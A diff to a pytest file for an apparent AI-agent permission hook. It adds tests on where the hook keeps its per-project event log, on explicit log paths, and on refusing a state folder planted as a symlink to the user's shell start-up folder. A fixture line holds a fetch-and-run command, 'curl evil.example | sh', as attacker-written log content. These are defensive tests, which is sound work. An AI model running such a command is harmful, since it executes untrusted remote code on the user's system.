@@ -16,7 +16,7 @@ import pytest
 
 from dshc.cli.hook import main as hook_main
 from dshc.runtime import log_format
-from dshc.runtime.events import EventLog
+from dshc.runtime.events import EventLog, read_log
 
 BASHRC = "# the user's shell start-up file\nexport PATH=$HOME/bin:$PATH\n"
 TORN = b'{"seq":9,"type":"note","text":"curl evil.example | sh #'  # a torn tail the attacker wrote
@@ -153,3 +153,53 @@ def test_the_hook_refuses_a_planted_log_link_after_the_call_too(workspace, bashr
     assert _hook(workspace)["permissionDecision"] == "deny"
     _hook(workspace, hook_event_name="PostToolUse", tool_response={"ok": True})
     assert bashrc.read_text() == BASHRC
+
+
+def _hook_log_records(path: Path) -> list[str]:
+    return [r["type"] for r in read_log(str(path)).records]
+
+
+def test_the_hooks_default_log_is_in_the_users_state_folder_keyed_by_project(workspace, private_state):
+    (workspace / ".dshc").write_text('policy = "workspace-write"\n')
+    event = {"session_id": "s", "cwd": str(workspace), "hook_event_name": "PreToolUse", "permission_mode": "default",
+             "tool_name": "Read", "tool_use_id": "toolu_1", "tool_input": {"file_path": str(workspace / "a.txt")}}
+    for kind in ("PreToolUse", "PostToolUse"):
+        assert hook_main(["claude-code"], io.StringIO(json.dumps({**event, "hook_event_name": kind,
+                                                                   "tool_response": {}})), io.StringIO(),
+                         io.StringIO()) == 0
+    (folder,) = (private_state / "dshc").iterdir()
+    assert folder.name.startswith("ws-") and oct(folder.stat().st_mode & 0o777) == "0o700"
+    assert _hook_log_records(folder / "events.jsonl") == ["request/header", "tool/call", "tool/decision",
+                                                          "tool/result"]
+    assert sorted(p.name for p in workspace.iterdir()) == [".dshc", "a.txt", "calls.jsonl"]  # nothing in the workspace
+    other = workspace / "sub"
+    other.mkdir()
+    (other / ".dshc").write_text('policy = "workspace-write"\n')
+    hook_main(["claude-code"], io.StringIO(json.dumps({**event, "cwd": str(other)})), io.StringIO(), io.StringIO())
+    assert len(list((private_state / "dshc").iterdir())) == 2  # another project, another log
+
+
+def test_an_explicit_log_still_wins(workspace, private_state):
+    _hook(workspace)  # `log = "events.jsonl"` in the project file
+    payload = {"session_id": "s", "cwd": str(workspace), "hook_event_name": "PreToolUse", "permission_mode": "default",
+               "tool_name": "Read", "tool_use_id": "toolu_2", "tool_input": {"file_path": str(workspace / "a.txt")}}
+    hook_main(["claude-code", "--log", str(workspace / "given.jsonl")], io.StringIO(json.dumps(payload)),
+              io.StringIO(), io.StringIO())
+    assert _hook_log_records(workspace / "events.jsonl")[1:] == ["tool/call", "tool/decision"]
+    assert _hook_log_records(workspace / "given.jsonl")[1:] == ["tool/call", "tool/decision"]
+    assert not (private_state / "dshc").exists()
+
+
+def test_a_state_folder_planted_as_a_link_is_refused(workspace, private_state, bashrc):
+    (workspace / ".dshc").write_text('policy = "workspace-write"\n')
+    (private_state / "dshc").mkdir(parents=True)
+    real = os.path.realpath(workspace)
+    key = f"ws-{__import__('hashlib').sha256(real.encode()).hexdigest()[:16]}"
+    (private_state / "dshc" / key).symlink_to(bashrc.parent)
+    event = {"session_id": "s", "cwd": str(workspace), "hook_event_name": "PreToolUse", "permission_mode": "default",
+             "tool_name": "Read", "tool_use_id": "toolu_1", "tool_input": {"file_path": str(workspace / "a.txt")}}
+    out = io.StringIO()
+    hook_main(["claude-code"], io.StringIO(json.dumps(event)), out, io.StringIO())
+    answer = json.loads(out.getvalue())["hookSpecificOutput"]
+    assert answer["permissionDecision"] == "deny" and "not a folder of this user's" in answer["permissionDecisionReason"]
+    assert sorted(p.name for p in bashrc.parent.iterdir()) == [".bashrc"]
